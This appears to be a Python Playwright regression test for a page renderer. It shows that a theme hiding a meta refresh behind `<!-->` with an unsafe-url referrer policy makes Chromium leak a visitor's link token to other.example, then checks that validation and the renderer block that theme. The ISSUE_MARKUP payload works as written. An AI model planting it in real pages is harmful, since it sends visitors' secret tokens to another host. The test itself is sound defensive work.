"""Issue 25's theme in Chromium: a refresh hidden behind `<!-->` and `<meta name="referrer"
content="unsafe-url">` sent a visitor's personal link token to another host.

First the hazard, shown in Chromium itself: the theme's markup, as the renderer used to serve it,
ends the comment at `<!-->`, follows the refresh, and sends the whole URL (token included) as the
Referer. Then the fix: `welcomemat validate` refuses the theme, and a renderer given it anyway
(a config written without the command line's checks) serves the campaign in the built-in frame:
Chromium stays on the page and no request to another host carries the token.
"""

from __future__ import annotations

import pytest
import redis
from playwright.sync_api import Route

from server.render import check_campaign_theme
from tests.browser.conftest import PageWatch
from tests.corpora import REPO_ROOT
from tests.server.conftest import CAMPAIGN, example_inputs, link_token, make_zone_set, publish_config
from welcomemat.errors import ContractError
from welcomemat.theme.folder import Theme, load_theme
from welcomemat.zones.store import ZoneSetStore

pytestmark = pytest.mark.browser

ISSUE_MARKUP = (
    '<!--><meta http-equiv="refresh" content="0;url=http://other.example/">-->\n'
    '<meta name="referrer" content="unsafe-url">'
)
FOOTER = "onboarding that gets new sellers to quota sooner"  # examples/theme/base.html


def issue_theme() -> Theme:
    good = load_theme(REPO_ROOT / "examples" / "theme")
    return Theme.of(good.base_html.replace("<title>", ISSUE_MARKUP + "\n<title>", 1), good.files)


def _capture_other_host(watch: PageWatch) -> list[dict[str, str]]:
    """Requests to other.example (answered here, never sent out), with their headers."""
    seen: list[dict[str, str]] = []

    def answer(route: Route) -> None:
        seen.append({"url": route.request.url, **route.request.headers})
        route.fulfill(status=200, content_type="text/html", body="<!doctype html><title>other</title>")

    watch.page.route("http://other.example/**", answer)
    return seen


def test_chromium_follows_the_issues_hidden_refresh_and_leaks_the_token(watch: PageWatch) -> None:
    """The hazard is real: what html.parser read as one comment, Chromium reads as a refresh."""
    token = link_token()
    html = (
        "<!doctype html><html><head>"
        + ISSUE_MARKUP
        + "<title>x</title></head><body><p>hello</p></body></html>"
    )
    watch.page.route(
        "http://victim.test/**", lambda route: route.fulfill(status=200, content_type="text/html", body=html)
    )
    _capture_other_host(watch)
    with watch.page.expect_request("http://other.example/**") as leaked:
        watch.page.goto(f"http://victim.test/c/{CAMPAIGN}?wm={token}")
    assert token in leaked.value.all_headers().get("referer", ""), leaked.value.all_headers()


def test_the_renderer_never_serves_the_issues_theme(
    redis_client: redis.Redis, renderer_url: str, watch: PageWatch
) -> None:
    theme = issue_theme()
    campaign, zone_contracts = example_inputs()
    with pytest.raises(ContractError, match="base.html"):  # validate refuses it
        check_campaign_theme(theme, REPO_ROOT / "examples" / "theme", campaign, zone_contracts)
    # Stored anyway (a config written by hand): the renderer checks again and does not use it.
    publish_config(redis_client, campaign, zone_contracts, theme)
    ZoneSetStore(redis_client).publish(make_zone_set())
    seen = _capture_other_host(watch)
    token = link_token()
    page = watch.page
    page.goto(f"{renderer_url}/c/{CAMPAIGN}?wm={token}")
    page.wait_for_load_state("networkidle")
    page.wait_for_timeout(1500)  # a refresh of 0 s would have fired by now
    watch.settle()

    assert page.url.startswith(f"{renderer_url}/c/{CAMPAIGN}"), page.url
    assert not seen, seen
    assert (
        page.evaluate("() => document.querySelectorAll('meta[http-equiv], meta[name=referrer]').length") == 0
    )
    assert FOOTER not in page.content()  # the built-in frame
    assert page.locator("[data-wm-zone=hero_headline]").inner_text() == "Congrats on the Series A, Dymaxa"
    strangers = [url for url in watch.requests if not url.startswith(f"{renderer_url}/")]
    assert not strangers, strangers
